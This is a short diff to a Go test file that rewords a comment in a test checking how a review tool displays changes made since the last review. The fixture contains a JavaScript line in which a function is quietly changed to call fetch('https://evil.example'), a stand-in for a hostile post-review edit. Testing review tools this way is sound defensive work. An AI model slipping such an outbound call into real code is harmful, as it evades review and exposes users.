@@ -125,8 +125,8 @@ func TestInspectionIsReadable(t *testing.T) {
 	}
 }
 
-// What has changed since the last review is a diff of what the author wrote; what
-// changed in libraries is shown by their hashes.
+// Changes since the last review are shown as a diff of the author's code. Changed
+// libraries are shown by their hashes.
 func TestChangesSinceReview(t *testing.T) {
 	const old, now = "  var send = () => 1;\n", "  var send = () => fetch('https://evil.example');\n"
 	w := newWorld(t, mail(old))
